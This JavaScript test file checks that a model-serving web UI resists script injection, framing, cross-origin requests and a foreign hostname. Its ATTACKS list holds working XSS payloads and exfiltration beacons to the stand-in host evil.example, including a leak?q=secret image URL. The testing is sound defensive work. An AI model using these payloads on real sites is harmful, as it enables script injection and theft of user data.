// Text of a model that tries to become markup, pages of others that try to use the server, and the
// page under a name that is not the server's own.

import assert from 'node:assert/strict';
import http from 'node:http';
import test, {after, before} from 'node:test';

import {answered, ask, close, lastAnswer, launch, mock, open, SERVER, stream} from './browser.mjs';

const PORT = new URL(SERVER).port;
const FOREIGN = 'evil.example';

let browser;
before(async () => {
  // A name that somebody has given this server's address.
  browser = await launch(`--host-resolver-rules=MAP ${FOREIGN} 127.0.0.1`);
});
after(() => browser.close());

const ATTACKS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><animate onbegin="window.pwned = 1" attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<a href="javascript:window.pwned = 1">x</a>',
  '[x](javascript:window.pwned=1) [x](  JaVaScRiPt:window.pwned=1) [x](data:text/html,x)',
  '![x](https://evil.example/leak?q=secret) ![x](//evil.example/leak)',
  '<link rel=stylesheet href=https://evil.example/x.css><style>@import "//evil.example/"</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><form action="//evil.example/"><button>x</button></form>',
  '```"><img src=x onerror=window.pwned=1>\ncode\n```',
  '| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |',
  '# <img src=x onerror=window.pwned=1>',
  '> - <details open ontoggle=window.pwned=1>',
  '[<img src=x onerror=window.pwned=1>](https://evil.example/"onmouseover="window.pwned=1)',
  '`<script>window.pwned = 1</script>` **<b onclick=window.pwned=1>** &lt;script&gt;',
  '</p></div></article><script>window.pwned = 1</script>',
  'constructor __proto__ {{constructor.constructor("window.pwned=1")()}} ${window.pwned=1}',
];

// What is in the conversation that a text can never have made.
const strange = (page) => page.evaluate(() => {
  const known = new Set(['ARTICLE', 'DIV', 'H3', 'H4', 'P', 'SPAN', 'BUTTON', 'BR', 'CODE', 'PRE',
                         'A', 'STRONG', 'EM', 'DEL', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'HR', 'TABLE',
                         'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'DL', 'DT', 'DD']);
  const refused = new Set(['src', 'srcdoc', 'action', 'formaction', 'style']);
  const found = [];
  for (const node of document.querySelectorAll('#messages *, #tooltip *, .facts *')) {
    if (!known.has(node.tagName)) found.push(node.tagName);
    for (const {name, value} of node.attributes) {
      if (name.startsWith('on') || refused.has(name)) {
        // Widths of bars are set by script.
        if (!(name === 'style' && /^width: [\d.]+%;$/.test(value))) found.push(`${name}=${value}`);
      }
      if (name === 'href' && !/^(https?|mailto):/.test(value)) found.push(`href=${value}`);
    }
  }
  if (window.pwned !== undefined) found.push('code ran');
  return found;
});

for (const tokens of [false, true]) {
  test(`no text of a model becomes more, shown as ${tokens ? 'tokens' : 'text'}`, async () => {
    const page = await open(browser, `${SERVER}/ui`);
    if (tokens) await page.check('#field-colours');
    for (const attack of ATTACKS) {
      // Whole, and in pieces that cut it anywhere.
      for (const pieces of [[attack], [...attack]]) {
        await mock(page, stream(pieces, {tokens, finish: attack,
                                         resume: {seed: attack, fingerprint: attack}}));
        await ask(page, attack);
        await answered(page);
        assert.deepEqual(await strange(page), [], attack);
      }
      if (tokens) {
        await lastAnswer(page).locator('.token').first().hover();
        assert.deepEqual(await strange(page), [], attack);
      }
    }
    if (!tokens) {
      const shown = await page.locator('.answer .prose').first().textContent();
      assert.equal(shown, ATTACKS[0]);
    }
    await close(page);
  });
}

test('no text of a server becomes more than text', async () => {
  const page = await open(browser, `${SERVER}/ui`);
  for (const attack of ATTACKS) {
    const error = {error: {message: attack, param: attack, type: attack, code: attack}};
    await mock(page, JSON.stringify(error), {status: 400, type: 'application/json',
                                             headers: {'retry-after': '<b>1</b>'}});
    await ask(page, 'Hi');
    await page.locator('.error').last().waitFor();
    assert.deepEqual(await strange(page), [], attack);
  }
  const info = await (await fetch(`${SERVER}/info`)).json();
  await page.route('**/info', (route) => route.fulfill({
    json: {...info, model_id: ATTACKS[1], model_family: ATTACKS[0], version: ATTACKS[2]}}));
  await page.locator('#model').filter({hasText: '<img'}).waitFor();
  await page.locator('.facts').filter({hasText: '<script>'}).waitFor();
  assert.deepEqual(await strange(page), []);
  await close(page);
});

test('the policy holds what the page itself would never do', async () => {
  const page = await open(browser, `${SERVER}/ui`);
  const refused = await page.evaluate(async () => {
    const results = {};
    try {
      document.querySelector('#empty').innerHTML = '<b>x</b>';
      results.innerHTML = 'done';
    } catch (error) {
      results.innerHTML = error.name;
    }
    try {
      trustedTypes.createPolicy('x', {createHTML: (text) => text});
      results.policy = 'done';
    } catch (error) {
      results.policy = error.name;
    }
    results.fetch = await fetch('https://evil.example/').then(() => 'done', (error) => error.name);
    return results;
  });
  assert.deepEqual(refused, {innerHTML: 'TypeError', policy: 'TypeError', fetch: 'TypeError'});
  assert.ok(page.faults.some((fault) => fault.includes('connect-src')), page.faults.join());
  page.faults.length = 0;
  await close(page);
});

// Another server of the same host, with a page of its own.
async function withOther(html, act) {
  const server = http.createServer((request, response) => {
    response.writeHead(200, {'content-type': 'text/html'});
    response.end(html);
  });
  await new Promise((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${server.address().port}/`);
    await act(page);
  } finally {
    await context.close();
    server.close();
  }
}

test('no other page may frame it', async () => {
  await withOther(`<iframe src="${SERVER}/ui/"></iframe>`, async (page) => {
    const frame = await (await page.waitForSelector('iframe')).contentFrame();
    assert.equal(await frame.locator('#prompt').count(), 0);
    assert.match(frame.url(), /^chrome-error:/);
  });
});

test('pages of other origins may not call, also of the same host', async () => {
  const requests = async () => (await (await fetch(`${SERVER}/metrics`)).text()).split('\n')
      .filter((line) => line.startsWith('weft_request_success_total'))
      .reduce((sum, line) => sum + Number(line.split(' ').pop()), 0);
  const before = await requests();
  await withOther('<p>other</p>', async (page) => {
    for (const type of ['application/json', 'text/plain', undefined]) {
      const result = await page.evaluate(async ([server, contentType]) => {
        try {
          const response = await fetch(`${server}/generate`, {
            method: 'POST', body: '{"inputs":"x","parameters":{"max_new_tokens":1}}',
            headers: contentType ? {'content-type': contentType} : {},
          });
          return `status ${response.status}`;
        } catch (error) {
          return error.name;
        }
      }, [SERVER, type]);
      assert.equal(result, 'TypeError', String(type));
    }
    // Blindly, as a form does it.
    const status = await new Promise((resolve) => {
      page.on('response', (response) => {
        if (response.url() === `${SERVER}/generate`) resolve(response.status());
      });
      page.evaluate((server) => fetch(`${server}/generate`, {
        method: 'POST', mode: 'no-cors', body: '{"inputs":"x"}'}).catch(() => {}), SERVER);
    });
    assert.equal(status, 403);
  });
  assert.equal(await requests(), before);
});

test('under a name that anybody could own the page says the way out', async () => {
  const page = await open(browser, `http://${FOREIGN}:${PORT}/ui`);
  await ask(page, 'Hi');
  await answered(page);
  const said = await lastAnswer(page).locator('.error').textContent();
  assert.ok(said.includes(`--cors-origins=http://${FOREIGN}:${PORT}`), said);
  await close(page);
  // By this host's own name it may.
  const local = await open(browser, `http://localhost:${PORT}/ui`);
  await local.fill('#field-max_tokens', '2');
  await ask(local, 'Hi');
  await answered(local);
  assert.equal(await local.locator('.error').count(), 0);
  await close(local);
});
